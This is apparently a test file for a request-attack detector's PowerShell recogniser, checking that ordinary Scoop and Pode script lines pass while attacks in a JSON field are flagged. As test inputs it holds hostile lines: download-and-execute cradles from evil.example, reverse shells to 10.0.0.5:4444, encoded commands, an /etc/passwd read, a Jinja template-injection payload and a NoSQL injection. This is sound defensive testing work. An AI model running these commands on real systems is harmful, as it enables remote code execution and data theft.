import t from 'tap'
import { POWERSHELL_ATTACK, PS_LITERAL_COLLECTION, powershellProgram } from '../../src/insight/powershell.ts'
import { defaultDetector } from '../helpers/detector.ts'

// The PowerShell script recogniser (docs/detection.md, "Forty-first round"): what it takes for a script, what stays an attack inside
// one, and the verdicts on whole values sent as a JSON field.

const detector = defaultDetector()
const field = (code: string) => detector.detect({ path: '/api/items', query: '', headers: { host: 'shop.example.com', 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ code })) })

// Scoop's and Pode's own lines, as the forty-seventh and forty-eighth parts held them
const SCOOP = `param($app, $global)
if (!$app) { error '<app> missing'; my_usage; exit 1 }
$info = [Ordered]@{}
$info.Alternatives = (@($info.Source) + ($altShims | ForEach-Object { $_.Extension.Remove(0, 1) } | Select-Object -Unique)) -join ' '
$apps = @((@($specific_versions_paths) + $difference) | Where-Object { $_ } | Select-Object -Unique)
if (!($hash -match '^[a-fA-F0-9]+$') -and $hash.Length -notin @(32, 40, 64, 128)) {
    warn "'$app' ($version) is already installed."
}
`
const PODE = `function Find-PodePublicRoute {
    param([string]$Path)
    $valid = @(foreach ($key in $paths) {
            if ($Path -imatch "^$($key)$") {
                $key
                break
            }
        })[0]
    if (!$PodeContext.Server.Handlers[$Type].ContainsKey($Name)) {
        return $null
    }
}
`

t.test('a PowerShell script: three of its lines PowerShell\'s, one a declaration, a cmdlet or an operator', async (t) => {
  t.ok(powershellProgram(SCOOP.toLowerCase()), "Scoop's command")
  t.ok(powershellProgram(PODE.toLowerCase()), "Pode's function")
  for (const v of [
    '#!/bin/sh\nset -e\nfor f in *.txt; do\n  echo "$f"\ndone\n',
    'import os\nx = os.environ["HOME"]\nprint(x)\nprint("$x")\n',
    '$a = 1\n$b = 2\n$c = 3\n',
    'get-childitem $x\n',
    "$x = 1; whoami; $y = 2 -eq 3",
    'x'.repeat(30),
  ]) t.notOk(powershellProgram(v.toLowerCase()), JSON.stringify(v.slice(0, 60)))
})

t.test('inside a script: a download run at once, a reverse shell\'s socket, an encoded command; literals only as data', async (t) => {
  for (const v of [
    "iex (new-object net.webclient).downloadstring('http://evil.example/x.ps1')",
    'invoke-webrequest http://evil.example/x.ps1 -usebasicparsing | iex',
    'iwr http://evil.example/s | invoke-expression',
    "$c = new-object system.net.sockets.tcpclient('10.0.0.5', 4444)",
    'powershell.exe -nop -w hidden -enc jabjagwaaqblag4adaagad0a',
    "iex ([text.encoding]::utf8.getstring([convert]::frombase64string($p)))",
  ]) t.ok(POWERSHELL_ATTACK.test(v), v)
  for (const v of ['$files | foreach-object { invoke-item $_ }', 'invoke-expression $cmd', 'start-process powershell -argumentlist "-file", $f']) t.notOk(POWERSHELL_ATTACK.test(v), v)
  t.equal("-notin @(32, 40, 64, 128)".replace(PS_LITERAL_COLLECTION, 'L'), '-notin L')
  t.equal("@{ '$dir' = $dir; 'x' = 1 }".replace(PS_LITERAL_COLLECTION, 'L'), 'L')
  for (const v of ['@(whoami)', '@(system.diagnostics.process.start("calc"))', '@{ x = (get-item $p) }', '@("$(id)")']) t.equal(v.replace(PS_LITERAL_COLLECTION, 'L'), v, v)
})

t.test("a script's own lines are its own; an attack inside one, or an injection on its first line, is read", async (t) => {
  t.same(field(SCOOP), [], "Scoop's lines")
  t.same(field(PODE), [], "Pode's lines")
  const dressed = (line: string) => `${SCOOP}${line}\n`
  for (const line of [
    "iex (New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')",
    'iwr http://evil.example/s.ps1 | iex',
    "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.5',4444);$stream = $client.GetStream()",
    'curl http://evil.example/s | sh',
    'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1',
  ]) t.ok(field(dressed(line)).includes('rce'), line)
  t.ok(field(`x; cat /etc/passwd\n${SCOOP}`).includes('rce'), 'an injection on its first line')
  t.ok(field(`x | whoami\n${PODE}`).includes('rce'), 'a pipe into a program on its first line')
  // one line of PowerShell is no script: judged as any value
  t.ok(field("if (!$app) { error 'x'; whoami; exit 1 }").includes('rce'), 'a line alone')
})

t.test('hostile shapes: long, many lines, no line breaks, nested collections', async (t) => {
  const many = '$x = 1\n'.repeat(60_000)
  t.notOk(powershellProgram(many), 'assignments alone are no script')
  t.ok(powershellProgram(`${'$x -eq 1\n'.repeat(20_000)}`), 'operators on every line')
  t.notOk(powershellProgram(`$${'a'.repeat(300_000)}`), 'past the size cap')
  t.notOk(powershellProgram(`get-item ${'$x '.repeat(100_000)}`), 'one long line')
  t.equal(`@(${'1,'.repeat(50_000)}`.replace(PS_LITERAL_COLLECTION, 'L').length, 100_002, 'an unclosed array of 50,000 items')
  t.equal(`@{${"'a' = 1;".repeat(20_000)}`.replace(PS_LITERAL_COLLECTION, 'L').length, 160_002, 'an unclosed hashtable of 20,000 pairs')
  // (forty-ninth round, security) a run an optional separator split into items in exponentially many ways before the missing `)`:
  // `@(` and 30 digits held the event loop 30 s; a script of three lines before it reached it from any parameter
  for (const run of ['1'.repeat(48), '$a1'.repeat(16), `'a'${"'a'".repeat(16)}`, '1 '.repeat(24), '$a.b'.repeat(12)]) {
    t.equal(`@(${run}x`.replace(PS_LITERAL_COLLECTION, 'L'), `@(${run}x`, `an unclosed array of a run: ${run.slice(0, 8)}…`)
    t.equal(`@{a=${run}x`.replace(PS_LITERAL_COLLECTION, 'L'), `@{a=${run}x`, `an unclosed hashtable of a run: ${run.slice(0, 8)}…`)
  }
  t.same(field(`$_\n$_\n$_\n@(${'1'.repeat(48)}`), field(`$_\n$_\n$_\n@(${'1'.repeat(8)}`), 'the value that held the loop is judged as a short one is')
  // the separators PowerShell requires: items and pairs without them are no collection
  for (const v of ['@(1 2)', '@(1,2,)', '@{a=1 b=2}']) t.equal(v.replace(PS_LITERAL_COLLECTION, 'L'), v, v)
  t.equal('@{a=1;b=2;}'.replace(PS_LITERAL_COLLECTION, 'L'), 'L', 'a trailing ; after the last pair')
  t.same(field(`${'$x -eq 1\n'.repeat(1000)}iwr http://evil.example/s | iex\n`), ['rce'], 'a script of 1,000 lines with a download run at once')
})

t.test("the review's payloads: a template in a literal array, JavaScript for $where, downloads piped on, comment lines as evidence", async (t) => {
  t.ok(field('$targets = @(\'{{ lipsum.__globals__["os"].popen("id").read() }}\', 2)\nforeach ($t in $targets) {\n    Write-Output $t\n}\n').includes('ssti'), 'Jinja in a quoted item')
  t.ok(field("a'; return true; var z = /*\n$a = Get-Item $x\n$b = Get-Item $y\n$c = Get-Item $z\n*/ '").includes('nosqli'), "a $where's JavaScript around three PowerShell lines")
  const report = (line: string) => `function Get-Report {\n    param($Name)\n    $items = Get-ChildItem -Path $Name | Where-Object { $_.Length -gt 0 }\n    ${line}\n    $items | Select-Object -First 5\n}\n`
  for (const line of ['curl.exe -s http://10.9.9.9/p.ps1 | powershell -', 'iwr http://10.9.9.9/p.ps1 | powershell -noprofile -', "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgA')) | iex"]) t.ok(field(report(line)).includes('rce'), line)
  t.notOk(powershellProgram('x; id\n# get-help a\n# get-help b\n# get-help c\n'), 'comment lines are no evidence')
  t.ok(field('x; id\n# Get-Help a\n# Get-Help b\n# Get-Help c\n').includes('rce'), 'and the value is judged as any')
})
